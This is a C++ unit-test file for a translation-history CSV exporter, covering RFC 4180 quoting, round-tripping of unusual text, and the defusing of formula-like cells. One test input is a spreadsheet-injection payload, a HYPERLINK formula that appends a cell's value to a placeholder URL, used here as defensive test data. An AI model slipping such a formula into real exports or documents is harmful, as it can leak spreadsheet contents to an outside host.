// CSV export: fields that need quotes get them, and a reader of RFC 4180 gets every field back.
#include "HistoryCsv.h"

#include <gtest/gtest.h>

using namespace std::string_literals;

namespace {

// Reads RFC 4180 records: fields split by commas, records by CR LF, quoted fields with "" for a
// quote and any other character as it stands.
std::vector<std::vector<std::string>> readCsv(const std::string& text)
{
    std::vector<std::vector<std::string>> records(1);
    std::string field;
    bool quoted = false;
    bool fieldStarted = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
                field += '"';
                ++i;
            } else if (c == '"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == '"' && !fieldStarted) {
            quoted = fieldStarted = true;
        } else if (c == ',') {
            records.back().push_back(std::exchange(field, {}));
            fieldStarted = false;
        } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
            records.back().push_back(std::exchange(field, {}));
            records.emplace_back();
            fieldStarted = false;
            ++i;
        } else {
            EXPECT_NE(c, '"') << "a quote inside an unquoted field";
            EXPECT_TRUE(c != '\r' && c != '\n') << "a line break outside quotes";
            field += c;
            fieldStarted = true;
        }
    }
    EXPECT_FALSE(quoted) << "an open quote at the end";
    EXPECT_TRUE(records.back().empty() && field.empty()) << "no CR LF after the last record";
    records.pop_back();
    return records;
}

HistoryEntry entry(std::u16string source, std::u16string translation)
{
    HistoryEntry e;
    e.source = std::move(source);
    e.translation = std::move(translation);
    e.sourceCode = "en";
    e.targetCode = "mr";
    e.usedAt = 1765380709123; // 2025-12-10T15:31:49.123Z
    e.useCount = 3;
    return e;
}

} // namespace

TEST(HistoryCsvTest, EveryFieldReadsBack)
{
    const struct
    {
        std::u16string text;
        std::string utf8;
    } cases[] = {
        {u"plain", "plain"},
        {u"comma, inside", "comma, inside"},
        {u"say \"hi\"", "say \"hi\""},
        {u"\"", "\""},
        {u"two\r\nlines", "two\r\nlines"},
        {u"lone\nLF and lone\rCR", "lone\nLF and lone\rCR"},
        {u" spaces at the ends ", " spaces at the ends "},
        {u"", ""},
        {u"सुप्रभात, मित्रा", "सुप्रभात, मित्रा"},
        {u"lone \xD800 surrogate", "lone \xEF\xBF\xBD surrogate"},
        {u"NUL \0 kept"s, "NUL \0 kept"s},
    };
    std::vector<HistoryEntry> entries;
    for (const auto& c : cases) {
        entries.push_back(entry(c.text, u"→ " + c.text));
    }
    const auto records = readCsv(HistoryCsv::write(entries));
    ASSERT_EQ(records.size(), std::size(cases) + 1);
    EXPECT_EQ(records[0],
        (std::vector<std::string> {"Time", "From", "To", "Text", "Translation", "Uses"}));
    for (std::size_t i = 0; i < std::size(cases); ++i) {
        EXPECT_EQ(records[i + 1],
            (std::vector<std::string> {
                "2025-12-10T15:31:49Z", "en", "mr", cases[i].utf8, "→ " + cases[i].utf8, "3"}));
    }
}

TEST(HistoryCsvTest, QuotesOnlyWhereNeeded)
{
    EXPECT_EQ(HistoryCsv::write({entry(u"a \"b\", c", u"x\r\ny"), entry(u"plain", u"साधे")}),
        "Time,From,To,Text,Translation,Uses\r\n"
        "2025-12-10T15:31:49Z,en,mr,\"a \"\"b\"\", c\",\"x\r\ny\",3\r\n"
        "2025-12-10T15:31:49Z,en,mr,plain,साधे,3\r\n");
    EXPECT_EQ(HistoryCsv::write({}), "Time,From,To,Text,Translation,Uses\r\n");
}

TEST(HistoryCsvTest, TextsASpreadsheetWouldRunAsFormulasAreDefusedUnlessExactIsAsked)
{
    const struct
    {
        std::string text; // ASCII
        bool defused;
    } cases[] = {
        {"=HYPERLINK(\"http://x\"&A1,\"Open\")", true},
        {"+1+1", true},
        {"-2+3", true},
        {"@SUM(A1)", true},
        {"\t=1", true},
        {"\r=1", true},
        {"=", true},
        // Only the first character counts.
        {"a=b", false},
        {" =1", false},
        {"'quoted", false},
        {"", false},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.text);
        const std::u16string text(c.text.begin(), c.text.end());
        const auto defused = readCsv(HistoryCsv::write({entry(text, text)}));
        const auto exact
            = readCsv(HistoryCsv::write({entry(text, text)}, HistoryCsv::Formulas::Exact));
        const std::string shown = (c.defused ? "'" : "") + c.text;
        ASSERT_EQ(defused.size(), 2u);
        EXPECT_EQ(defused[1][3], shown);
        EXPECT_EQ(defused[1][4], shown);
        ASSERT_EQ(exact.size(), 2u);
        EXPECT_EQ(exact[1][3], c.text);
        EXPECT_EQ(exact[1][4], c.text);
    }
}
